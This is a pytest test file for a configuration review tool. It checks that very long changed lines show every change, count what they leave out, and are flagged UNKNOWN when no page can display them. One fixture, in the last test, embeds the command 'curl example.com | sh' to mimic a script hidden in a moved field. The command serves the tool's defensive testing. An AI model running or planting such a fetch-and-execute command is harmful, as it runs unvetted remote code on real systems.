"""A long line that changes at several places shows each of them, and says what it does not show (S41)."""

from __future__ import annotations

import random
from collections.abc import Sequence

import pytest

from approvals.api.report_parts import changes_of
from approvals.web.requests.diff_rows import Drawing, LineNotes
from provisioner.pipeline import look_offline
from provisioner.review.base.difference import all_lines
from provisioner.review.base.long_lines import (
    AROUND,
    MAX_FULL,
    MAX_PIECES,
    Piece,
    differing_spans,
    in_pieces,
    text_of,
)
from provisioner.review.output.html import as_html
from provisioner.review.output.terminal import differences_as_text
from provisioner.values import Report, Severity
from tests.support.provisioner.contents import config_map, content_with

SIZE = 350_000
PROSE = "the quick brown fox jumps over the lazy dog and the cat; "
DRAWN = random.Random(7)
BLOB = "".join(DRAWN.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/", k=SIZE))


def changed(text: str, *edits: tuple[int, str]) -> str:
    for at, words in edits:
        text = f"{text[:at]}{words}{text[at + len(words) :]}"
    return text


def seen(pieces: Sequence[Piece]) -> list[str]:
    return [one.text for one in pieces if one.is_changed]


LONG = (PROSE * (SIZE // len(PROSE) + 1))[:SIZE]


@pytest.mark.parametrize("text", [LONG, BLOB], ids=["words that come again", "one word"])
def test_S41_two_changes_of_one_long_line_are_both_shown(text: str) -> None:
    found = in_pieces(text, changed(text, (100, " FIRST "), (SIZE - 5_000, " SECOND ")))
    assert found.unseen == 0
    told = " ".join(seen(found.new))
    assert "FIRST" in told and "SECOND" in told
    assert len(text_of(found.new)) < 10 * AROUND


def test_what_is_added_at_two_places_is_shown_and_nothing_is_lost() -> None:
    words = " ".join(f"w{number}" for number in range(60_000))
    found = in_pieces(words, words.replace(" w30 ", " w30 FIRST ").replace(" w59000 ", " w59000 SECOND "))
    assert [one.strip() for one in seen(found.new)] == ["FIRST", "SECOND"]
    assert (found.unseen, seen(found.old)) == (0, [])


def test_what_is_between_two_differences_is_the_same_in_both() -> None:
    for _ in range(300):
        old = "".join(DRAWN.choices("ab ", k=DRAWN.randint(0, 300)))
        new = old
        for _ in range(DRAWN.randint(0, 6)):
            at = DRAWN.randint(0, len(new))
            new = new[:at] + "".join(DRAWN.choices("abc ", k=DRAWN.randint(0, 10))) + new[at + DRAWN.randint(0, 40) :]
        at = there = 0
        for (first, last), (start, end) in differing_spans(old, new):
            assert old[at:first] == new[there:start]
            at, there = last, end
        assert old[at:] == new[there:]


def test_what_does_not_fit_is_counted() -> None:
    found = in_pieces("a" * SIZE, "b" * SIZE)
    assert found.unseen >= 2 * (SIZE - MAX_PIECES)
    assert len(text_of(found.new)) <= MAX_PIECES + 2 * AROUND


def report(old: str, new: str) -> Report:
    return look_offline(content_with(config_map(text=new)), content_with(config_map(text=old)))


def test_S41_every_output_shows_both_changes() -> None:
    found = report(LONG, changed(LONG, (100, " FIRST "), (SIZE - 5_000, " SECOND ")))
    (action,) = found.plan.actions
    lines = all_lines(action.before, action.after)
    rows = Drawing(lines, LineNotes()).unified(range(len(lines)))
    page = "".join(str(row.cell.html) for row in rows if row.cell)
    rest = str(changes_of({"ref": {}, "action": "update", "before": action.before, "after": action.after}))
    shown = {"page": page, "REST": rest, "terminal": differences_as_text([action]), "file": as_html(found, title="x")}
    assert [name for name, text in shown.items() if not ("FIRST" in text and "SECOND" in text)] == []
    assert page.count("<mark>") >= 4
    assert "TXT-05" not in {one.rule for one in found.findings}


@pytest.mark.parametrize(
    ("old", "new", "is_unknown"),
    [
        pytest.param("a" * SIZE, "b" * SIZE, True, id="a long line that is another one"),
        pytest.param("short", "b" * (MAX_FULL + 100), True, id="a long line for a short one"),
        pytest.param("a" * 200_000, "b" * 200_000, False, id="one that can be opened"),
        pytest.param("a\n" * 300_000, "b\n" * 300_000, False, id="many short lines"),
        pytest.param("a" * SIZE, "a" * SIZE + "\nmore", False, id="a line after the long one"),
        pytest.param("a" * SIZE + "\nb\nc", "d\ne\n" + "a" * SIZE, False, id="a long line that moves"),
        pytest.param("a" * SIZE, "d\n" + "a" * SIZE + "\n" + "a" * SIZE, True, id="a long line twice"),
    ],
)
def test_S41_a_change_that_no_page_can_show_is_unknown(old: str, new: str, is_unknown: bool) -> None:
    found = {one.rule: one.severity for one in report(old, new).findings}
    assert found.get("TXT-05") == (Severity.UNKNOWN if is_unknown else None)


def test_S41_a_long_line_that_moves_to_another_field_is_unknown() -> None:
    told, other = "first\n" + "a" * SIZE + "; curl example.com | sh\n", "first\nx\n"
    notes, script = ({"notes": told, "run": other}, {"notes": other, "run": told})
    notes, script = config_map("web", **notes), config_map("web", **script)
    found = look_offline(content_with(script), content_with(notes))
    assert {one.rule: one.severity for one in found.findings}.get("TXT-05") is Severity.UNKNOWN
